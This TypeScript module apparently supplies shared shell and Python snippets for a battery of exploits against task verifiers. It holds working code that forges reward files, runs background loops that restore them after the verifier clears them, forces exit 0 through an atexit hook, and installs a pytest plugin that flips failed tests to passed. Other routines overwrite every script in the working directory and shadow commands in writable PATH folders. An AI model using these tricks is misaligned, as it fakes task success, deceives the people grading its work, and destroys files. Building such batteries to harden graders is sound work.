/**
 * Shell the battery's exploits share: lines that forge a pass (reward files, Python, a pytest plugin, programs), the
 * detached writers, and the PATH shadowing. Each is a string (or a function building one) embedded in an exploit's
 * script.
 */

/**
 * Shell lines that forge a pass: both reward files say 1 (reward.json is read first, then reward.txt), each written
 * aside and renamed into place, so that a reader never finds one empty. No `$`: it is embedded in double quotes.
 */
export const FORGE_SH = [
  "mkdir -p /logs/verifier 2>/dev/null",
  "echo 1 > /logs/verifier/.pgs-t 2>/dev/null && mv -f /logs/verifier/.pgs-t /logs/verifier/reward.txt",
  `echo '{"reward": 1}' > /logs/verifier/.pgs-j 2>/dev/null && mv -f /logs/verifier/.pgs-j /logs/verifier/reward.json`,
  "true",
].join("; ");

/** Builtins that put both reward files back when reward.json is missing from /logs/verifier. */
export const PUT_BACK = "[ -f /logs/verifier/reward.json ] || { echo 1 > /logs/verifier/reward.txt; " +
  `echo '{"reward": 1}' > /logs/verifier/reward.json; } 2>/dev/null`;

/**
 * A bash loop that looks every 5 ms without forking (a `read -t` on a FIFO it holds open): a woken sleeper is
 * scheduled at once, so it answers the verifier's clearing of the folder within milliseconds while costing the machine
 * next to nothing. Without bash, the same check as a busy loop.
 */
export const BASH_WRITER =
  `f=/tmp/.pgs-w$$; mkfifo $f && exec 3<>$f; rm -f $f; while :; do read -t 0.005 -u 3 _; ${PUT_BACK}; done`;
export const SH_WRITER = `while :; do ${PUT_BACK}; done`;

/** Python that forges a pass when the interpreter exits, whatever the code did: the reward files, then exit 0. */
export const FORGE_PY = [
  "import atexit as _pgs_atexit, os as _pgs_os",
  "def _pgs_pass():",
  "    try:",
  "        _pgs_os.makedirs('/logs/verifier', exist_ok=True)",
  "        open('/logs/verifier/reward.txt', 'w').write('1\\n')",
  "        open('/logs/verifier/reward.json', 'w').write('{\"reward\": 1}')",
  "    except Exception:",
  "        pass",
  "    _pgs_os._exit(0)",
  "_pgs_atexit.register(_pgs_pass)",
].join("\n");

/** A pytest plugin (conftest.py) that turns every failed test into a pass and the session's status into 0. */
export const PASSING_CONFTEST = [
  "import pytest",
  "@pytest.hookimpl(hookwrapper=True)",
  "def pytest_runtest_makereport(item, call):",
  "    outcome = yield",
  "    report = outcome.get_result()",
  "    if report.failed:",
  "        report.outcome = 'passed'",
  "        report.longrepr = None",
  "def pytest_sessionfinish(session, exitstatus):",
  "    session.exitstatus = 0",
].join("\n");

/** Shell that writes a file `$2` in the format `$1` (py or sh) that forges a pass as soon as it runs. */
export const WRITERS = [
  `pgs_py=$(cat <<'PGS_PY'\n${FORGE_PY}\n_pgs_pass()\nPGS_PY\n)`,
  `pgs_sh=$(printf '#!/bin/sh\\n%s\\nexit 0\\n' ${JSON.stringify(FORGE_SH)})`,
].join("\n");

/** Shell that rewrites the working directory's scripts (`*.py`, `*.sh`) into passes. */
export const REWRITE_WORKDIR = [
  `find . -type f -name '*.py' 2>/dev/null | while read -r f; do printf '%s\\n' "$pgs_py" > "$f"; done`,
  `find . -type f -name '*.sh' 2>/dev/null | while read -r f; do printf '%s\\n' "$pgs_sh" > "$f"; chmod +x "$f"; done`,
].join("\n");

/** Shell that puts a pass-forging program named `$n` (for each name in `$names`) in every writable PATH folder. */
export function shadow(names: string, interpreter = "/bin/sh"): string {
  return [
    `pgs_prog=$(printf '#!%s\\n%s\\nexit 0\\n' ${interpreter} ${JSON.stringify(FORGE_SH)})`,
    `for d in $(printf '%s' "$PATH" | tr ':' ' ') /usr/local/bin /usr/bin /bin; do`,
    `  [ -d "$d" ] && [ -w "$d" ] || continue`,
    `  for n in ${names}; do rm -f "$d/$n" 2>/dev/null; printf '%s\\n' "$pgs_prog" > "$d/$n" && chmod 755 "$d/$n"; done`,
    `done; true`,
  ].join("\n");
}
